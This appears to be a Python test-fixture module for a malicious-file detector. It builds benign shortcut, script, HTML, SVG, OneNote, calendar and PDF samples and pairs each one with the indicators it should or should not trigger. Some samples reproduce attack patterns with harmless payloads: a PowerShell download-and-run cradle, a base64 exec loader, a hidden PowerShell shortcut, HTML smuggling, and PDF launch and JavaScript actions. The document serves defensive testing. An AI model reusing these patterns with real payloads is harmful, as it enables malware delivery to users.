"""Shortcuts, pages, notes, calendars, PDF: written from scratch, harmless (notepad, example.org), each with its benign twin."""
import base64
import struct

CLSID = bytes.fromhex("0114020000000000c000000000000046")


def lnk(target="C:\\Windows\\notepad.exe", arguments="", icon="", relative="", overlay=b"", machine="maker-pc", environment=""):
    flags = 0x80 | 2 | (0x20 if arguments else 0) | (0x40 if icon else 0) | (8 if relative else 0)
    head = struct.pack("<I", 76) + CLSID + struct.pack("<II", flags, 0x20) + bytes(24) + struct.pack("<IIIHHII", 0, 0, 1, 0, 0, 0, 0)
    path = target.encode("cp1252") + b"\0"
    volume = struct.pack("<IIII", 17, 3, 0, 16) + b"\0"
    info = struct.pack("<IIIIII", 28 + len(volume) + len(path) + 1, 28, 1, 28, 28 + len(volume), 0) + struct.pack("<I", 28 + len(volume) + len(path)) + volume + path + b"\0"
    text = b"".join(struct.pack("<H", len(x)) + x.encode("utf-16-le") for x in (relative, arguments, icon) if x)
    extra = struct.pack("<III", 96, 0xa0000003, 88) + struct.pack("<I", 0) + machine.encode().ljust(16, b"\0") + bytes(64)
    if environment:
        extra += struct.pack("<II", 788, 0xa0000001) + environment.encode().ljust(260, b"\0") + environment.encode("utf-16-le").ljust(520, b"\0")
    return head + info + text + extra + bytes(4) + overlay


def pdf(objects, trailer=""):
    """objects: texts or (dictionary text, stream bytes); object 1 is the catalogue."""
    out, at = b"%PDF-1.7\n", []
    for i, o in enumerate(objects, 1):
        at.append(len(out))
        body = o.encode() if isinstance(o, str) else f"<< {o[0]} /Length {len(o[1])} >>\nstream\n".encode() + o[1] + b"\nendstream"
        out += f"{i} 0 obj\n".encode() + body + b"\nendobj\n"
    xref = len(out)
    out += f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode() + b"".join(f"{a:010} 00000 n \n".encode() for a in at)
    return out + f"trailer\n<< /Size {len(objects) + 1} /Root 1 0 R {trailer} >>\nstartxref\n{xref}\n%%EOF\n".encode()


def page_pdf(catalogue="", page="", content=b"BT /F1 12 Tf (A plain report about sea water) Tj ET", more=()):
    return pdf([f"<< /Type /Catalog /Pages 2 0 R {catalogue} >>", "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
                f"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 4 0 R /Resources << >> {page} >>", ("", content), *more])


def onenote(*files):
    guid = bytes.fromhex("e716e3bd65261145a4c48d4d0b7a9eac")
    out = bytes.fromhex("e4525c7b8cd8a74daeb15378d02996d3") + bytes(1024)
    for f in files:
        out += guid + struct.pack("<Q", len(f)) + bytes(12) + f + bytes(24)
    return out


def page(body="", script="", head=""):
    return f"<!DOCTYPE html><html><head><title>x</title>{head}</head><body>{body}<script>{script}</script></body></html>".encode()


HARMLESS = base64.b64encode(b"MZ" + b"\0" * 58 + struct.pack("<I", 64) + b"PE\0\0" + bytes(1200)).decode()
LONG_TEXT = "<p>" + "This is an ordinary newsletter about ships and sensors. " * 30 + "</p>"

# name: (content, indicators that must be there, indicators that must not be)
CASES = {
    "notes.lnk": (lnk(), {"LNK_FILE"}, {"LNK_COMMAND", "LNK_DISGUISED", "LNK_OVERLAY", "REMOTE_TARGET"}),
    "folder.lnk": (lnk("C:\\Users\\Public\\Documents", machine="office"), {"LNK_FILE"}, {"LNK_COMMAND"}),
    "command.lnk": (lnk("C:\\Windows\\System32\\cmd.exe", "/c start notepad"), {"LNK_COMMAND"}, {"LNK_DISGUISED", "LNK_PADDED"}),
    "disguised.lnk": (lnk("C:\\Windows\\System32\\cmd.exe", "/c notepad", "C:\\Program Files\\Adobe\\Acrobat\\AcroRd32.exe"), {"LNK_COMMAND", "LNK_DISGUISED"}, set()),
    "padded.lnk": (lnk("C:\\Windows\\System32\\cmd.exe", " " * 300 + "/c notepad"), {"LNK_PADDED"}, set()),
    "overlay.lnk": (lnk(overlay=b"x" * 5000), {"LNK_OVERLAY"}, set()),
    "share.lnk": (lnk("\\\\files.example.org\\share\\offer.pdf"), {"REMOTE_TARGET"}, {"LNK_COMMAND"}),
    "iconshare.lnk": (lnk(icon="\\\\files.example.org\\i.ico"), {"REMOTE_TARGET"}, set()),
    "environment.lnk": (lnk("C:\\x", "-w hidden", environment="%windir%\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"), {"LNK_COMMAND"}, set()),
    "link.url": (b"[InternetShortcut]\r\nURL=https://www.example.org/\r\n", {"HTML_REDIRECT"}, {"REMOTE_TARGET"}),
    "share.url": (b"[InternetShortcut]\r\nURL=file://files.example.org/share/x\r\n", {"REMOTE_TARGET"}, set()),
    "icon.url": (b"[InternetShortcut]\r\nURL=https://www.example.org/\r\nIconFile=\\\\files.example.org\\a.ico\r\n", {"REMOTE_TARGET"}, set()),
    "own.rdp": (b"full address:s:10.1.2.3\r\ndrivestoredirect:s:*\r\n", {"RDP_FILE"}, {"RDP_SHARES"}),
    "outside.rdp": (b"full address:s:desk.example.org:443\r\ndrivestoredirect:s:*\r\nredirectclipboard:i:1\r\n", {"RDP_FILE", "RDP_SHARES"}, set()),
    "wide.rdp": (b"\xff\xfe" + "full address:s:desk.example.org\r\ndrivestoredirect:s:*\r\n".encode("utf-16-le"), {"RDP_SHARES"}, set()),
    "hello.ps1": (b"Write-Host 'hello'\n", {"SCRIPT_FILE"}, {"SCRIPT_FETCHES", "SCRIPT_ENCODED"}),
    "fetch.ps1": (b"IEX (New-Object Net.WebClient).DownloadString('http://example.org/a')\n", {"SCRIPT_FETCHES"}, set()),
    "tool.py": (b"import os\nprint(os.getcwd())\n", set(), {"SCRIPT_FILE", "SCRIPT_FETCHES", "SCRIPT_ENCODED"}),
    "loader.py": (b"import base64\nexec(base64.b64decode('" + base64.b64encode(b"print('harmless text, only for the test of the decoder, long enough to be looked at again')" * 2) + b"'))\n", {"SCRIPT_ENCODED"}, set()),
    "query.iqy": (b"WEB\n1\nhttp://example.org/a\n", {"REMOTE_TARGET"}, set()),
    "newsletter.html": (page(LONG_TEXT + "<a href='https://example.org/'>more</a>"), set(), {"HTML_SMUGGLING", "HTML_PASSWORD", "HTML_REDIRECT"}),
    "smuggle.html": (page("", f"var d=atob('{HARMLESS}');var b=new Blob([d]);var a=document.createElement('a');a.href=URL.createObjectURL(b);a.download='offer.iso';a.click();"), {"HTML_SMUGGLING"}, set()),
    "login.html": (page("<form action='https://example.org/x'><input name=u><input type='password' name=p></form>"), {"HTML_PASSWORD"}, set()),
    "moved.html": (page(head="<meta http-equiv='refresh' content='0; url=https://example.org/login'>"), {"HTML_REDIRECT"}, set()),
    "picture.svg": (b"<svg xmlns='http://www.w3.org/2000/svg'><circle r='4'/></svg>", set(), {"SVG_ACTIVE"}),
    "script.svg": (b"<svg xmlns='http://www.w3.org/2000/svg'><script>var a = 1</script></svg>", {"SVG_ACTIVE"}, set()),
    "load.svg": (b"<svg xmlns='http://www.w3.org/2000/svg' onload='a()'/>", {"SVG_ACTIVE"}, set()),
    "pictures.one": (onenote(b"\x89PNG\r\n\x1a\n" + bytes(100)), set(), {"ONENOTE_EMBEDDED", "ONENOTE_ACTIVE"}),
    "report.one": (onenote(b"%PDF-1.4\n%%EOF\n"), {"ONENOTE_EMBEDDED"}, {"ONENOTE_ACTIVE"}),
    "button.one": (onenote(b"\x89PNG\r\n\x1a\n" + bytes(100), lnk("C:\\Windows\\System32\\cmd.exe", "/c notepad")), {"ONENOTE_ACTIVE"}, set()),
    "meeting.ics": (b"BEGIN:VCALENDAR\r\nMETHOD:REQUEST\r\nBEGIN:VEVENT\r\nORGANIZER:mailto:a@example.org\r\nDESCRIPTION:https://teams.microsoft.com/l/mee\r\n tup-join/1\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n",
                    set(), {"ICS_REMOTE"}),
    "strange.ics": (b"BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\nDESCRIPTION:Unterlagen https://files.exam\r\n ple.org/a.iso\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n", {"ICS_REMOTE"}, set()),
    "phone.mobileconfig": (b"<?xml version='1.0'?><plist><dict><key>PayloadContent</key><key>PayloadType</key></dict></plist>", {"MOBILE_PROFILE"}, set()),
    "page.mht": (b"MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=\"b\"\r\n\r\n--b\r\nContent-Type: text/html\r\nContent-Location: a.html\r\n\r\n" + page("<input type=password>") + b"\r\n--b--\r\n",
                 {"HTML_PASSWORD"}, set()),
    "plain.pdf": (page_pdf("/OpenAction [3 0 R /Fit]"), set(), {"PDF_JAVASCRIPT", "PDF_LAUNCH", "PDF_REMOTE", "VIEWER_BAIT", "PDF_IMAGE_LINK", "BROKEN"}),
    "form.pdf": (page_pdf("/AcroForm << /Fields [] >>"), set(), {"PDF_JAVASCRIPT"}),
    "script.pdf": (page_pdf("/OpenAction << /S /JavaScript /JS (app.alert\\('x'\\)) >>"), {"PDF_JAVASCRIPT"}, set()),
    "names.pdf": (page_pdf("/Names << /JavaScript << /Names [(a) 5 0 R] >> >>", more=["<< /S /JavaScript /JS 6 0 R >>", ("", b"app.alert(1)")]), {"PDF_JAVASCRIPT"}, set()),
    "launch.pdf": (page_pdf("/OpenAction << /S /Launch /F (notepad.exe) >>"), {"PDF_LAUNCH"}, set()),
    "remote.pdf": (page_pdf("/OpenAction << /S /GoToR /F (\\\\\\\\files.example.org\\\\a.pdf) /D [0 /Fit] >>"), {"PDF_REMOTE"}, set()),
    "attached.pdf": (page_pdf("/Names << /EmbeddedFiles << /Names [(invoice.xml) 5 0 R] >> >>", more=["<< /Type /Filespec /F (invoice.xml) /EF << /F 6 0 R >> >>", ("/Type /EmbeddedFile", b"<?xml version='1.0'?><a/>")]),
                     {"PDF_EMBEDDED"}, {"PDF_JAVASCRIPT"}),
    "bait.pdf": (page_pdf(content=b"BT (This document cannot be displayed.) Tj 0 -20 Td (Open it with our viewer.) Tj ET"), {"VIEWER_BAIT"}, set()),
    "image.pdf": (page_pdf(page="/Annots [<< /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (https://example.org/x) >> >>]", content=b"/I Do",
                           more=[("/Type /XObject /Subtype /Image /Width 1 /Height 1 /ColorSpace /DeviceGray /BitsPerComponent 8", b"\0")]), {"PDF_IMAGE_LINK"}, set()),
    "broken.pdf": (b"%PDF-1.7\nnothing here\n", {"BROKEN"}, set()),
    "two.pdf": (page_pdf() + b"PK\1\2" + bytes(42) + b"PK\5\6" + bytes(18), {"POLYGLOT"}, set()),
}
